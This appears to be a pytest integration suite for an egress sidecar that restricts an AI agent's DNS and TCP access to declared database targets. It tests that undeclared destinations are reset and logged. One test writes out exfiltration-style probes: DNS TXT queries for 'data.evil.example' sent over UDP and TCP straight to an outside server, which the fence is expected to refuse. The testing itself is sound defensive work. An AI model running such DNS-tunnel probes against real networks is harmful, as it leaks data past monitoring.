"""DNS, listener and dialling behind the real fence, in network namespaces: what an agent sees, and what leaves.

The gateway of this test answers every connection to its target with the bytes that the outside sends; what is under
test is the way there.
"""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator

import pytest
from fix_netns import OUTSIDE4, OUTSIDE6, TIMEOUT_S, World

pytestmark = pytest.mark.peer

GATEWAY = """
import asyncio, json, socket, sys
from chaperone_sidecar import fence
from chaperone_sidecar.config import Host, Target, Tls, Upstream
from chaperone_sidecar.dial import Dialer, marked_socket
from chaperone_sidecar.dns import DnsServer
from chaperone_sidecar.listener import Listener
from chaperone_sidecar.resolver import Resolver, read_conf

conf = read_conf("search agents.svc.cluster.local svc.cluster.local cluster.local\\nnameserver 203.0.113.1")
dialer = Dialer(Resolver(conf, marked_socket))
denied = []

def target(name, upstream, port, addresses=()):
    slot = port % 250
    host = Host(name, f"240.240.0.{slot}", f"fd63:6861:7065::{slot}")
    return Target(name, "PostgreSQL", port, (host,), Upstream(upstream, 5432), Tls("Disable"), addresses)

async def take(client, target):
    loop = asyncio.get_running_loop()
    try:
        connection = await dialer.dial(target.upstream.host, target.upstream.port)
        said = f"{target.name} ".encode() + await loop.sock_recv(connection, 99)
        connection.close()
    except OSError as error:
        said = error.strerror.encode()
    client.setblocking(False)
    await loop.sock_sendall(client, said)
    client.close()

async def main():
    own = socket.create_server((sys.argv[3], 5432))
    dns = DnsServer(conf, lambda *one: denied.append(list(one)))
    listener = Listener(take, lambda *one: denied.append(list(one)))
    targets = (target("orders-db.data.svc", sys.argv[1], 5432, (sys.argv[1] + "/32",)),
               target("ledger", sys.argv[2], 5433), target("self", sys.argv[3], 5434))
    dns.use(targets)
    listener.use(targets)
    await dns.start(fence.DNS_PORT)
    listener.start(fence.TCP_PORT)
    listener.probe_port = 4242
    await asyncio.to_thread(fence.prove, 4242)
    print("ready", flush=True)
    await asyncio.to_thread(sys.stdin.readline)
    print(json.dumps(denied), flush=True)

asyncio.run(main())
"""
RESOLV = "search agents.svc.cluster.local svc.cluster.local cluster.local\nnameserver 203.0.113.1\noptions ndots:5\n"


class Gateway:
    """The process; `denied` ends it and gives what it noted."""

    def __init__(self, process: subprocess.Popen[str]) -> None:
        self._process = process

    def denied(self) -> list[list[object]]:
        said, errors = self._process.communicate("\n", timeout=TIMEOUT_S)
        assert self._process.returncode == 0, errors
        found: list[list[object]] = json.loads(said)
        return found


@pytest.fixture
def gateway(fenced: World) -> Iterator[Gateway]:
    """Runs in the pod's namespace with NET_RAW, as the sidecar does; the pod's resolv.conf is as kubelet writes it."""
    with fenced.resolv_conf(RESOLV):
        process = subprocess.Popen(
            ["ip", "netns", "exec", fenced.inside, sys.executable, "-c", GATEWAY, OUTSIDE4, OUTSIDE6, "10.231.7.2"],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )  # fmt: skip
        try:
            assert process.stdout is not None
            ready = process.stdout.readline()
            assert ready == "ready\n", process.communicate(timeout=TIMEOUT_S)
            yield Gateway(process)
        finally:
            process.kill()
            process.communicate(timeout=TIMEOUT_S)


def ask(world: World, host: str, port: int, family: str = "AF_UNSPEC") -> str:
    """Connect as any program does, by the C library's resolver."""
    run = world.agent(
        f"""
where = socket.getaddrinfo({host!r}, {port}, socket.{family}, socket.SOCK_STREAM)[0]
s = socket.socket(where[0]); s.settimeout(20); s.connect(where[4]); print(where[4][0], s.recv(99).decode())
"""
    )
    return run.stdout.strip() or run.stderr.strip().splitlines()[-1]


@pytest.mark.parametrize(
    ("host", "port", "family", "said"),
    [
        ("orders-db.data.svc", 5432, "AF_INET", "240.240.0.182 orders-db.data.svc outside"),
        ("orders-db.data.svc", 5432, "AF_INET6", "fd63:6861:7065::182 orders-db.data.svc outside"),
        ("orders-db.data.svc.cluster.local", 5432, "AF_INET", "240.240.0.182 orders-db.data.svc outside"),
        ("ledger", 5433, "AF_INET", "240.240.0.183 ledger outside"),
        ("ledger", 5433, "AF_INET6", "fd63:6861:7065::183 ledger outside"),
        (OUTSIDE4, 5432, "AF_INET", f"{OUTSIDE4} orders-db.data.svc outside"),
    ],
)
def test_a_declared_target_is_reached_by_name_and_address(
    fenced: World, gateway: Gateway, host: str, port: int, family: str, said: str
) -> None:
    assert ask(fenced, host, port, family) == said
    assert gateway.denied() == []


def test_a_target_that_leads_back_into_the_pod_is_refused(fenced: World, gateway: Gateway) -> None:
    assert "this pod's own" in ask(fenced, "self", 5434, "AF_INET")
    assert fenced.arrived() == 0


def test_undeclared_destinations_are_reset_and_noted(fenced: World, gateway: Gateway) -> None:
    assert "Connection reset" in ask(fenced, OUTSIDE4, 22)
    assert "Connection reset" in ask(fenced, OUTSIDE6, 443)
    assert "Connection reset" in ask(fenced, "ledger", 5432, "AF_INET")
    assert gateway.denied() == [
        ["tcp", OUTSIDE4, 22, "undeclared destination"],
        ["tcp", OUTSIDE6, 443, "undeclared destination"],
        ["tcp", "240.240.0.183", 5432, "undeclared destination"],
    ]
    assert fenced.arrived() == 0


def test_undeclared_names_are_refused_and_noted_wherever_they_are_asked(fenced: World, gateway: Gateway) -> None:
    assert "failure in name resolution" in ask(fenced, "evil.example", 80)
    code = f"""
import dns.message, dns.query
for over in (dns.query.udp, dns.query.tcp):
    reply = over(dns.message.make_query("data.evil.example", "TXT"), {OUTSIDE4!r}, timeout=20)
    print(dns.rcode.to_text(reply.rcode()))
"""
    assert fenced.agent(code).stdout.split() == ["REFUSED", "REFUSED"]
    names = {name for name, _ in gateway.denied()}
    assert names >= {"evil.example", "data.evil.example"}
    assert fenced.arrived() == 0


@pytest.mark.parametrize("where", ["127.0.0.1", "::1"])
@pytest.mark.parametrize("port", [15001, 15053])
def test_the_gateways_ports_take_nothing_that_was_dialled_there(
    fenced: World, gateway: Gateway, where: str, port: int
) -> None:
    assert "Connection refused" in ask(fenced, where, port)


def test_the_probe_of_the_fence_is_not_taken_for_the_agents(fenced: World, gateway: Gateway) -> None:
    assert fenced.agent("from chaperone_sidecar import fence; fence.prove(4242); print('proved')").stdout == "proved\n"
    assert gateway.denied() == []
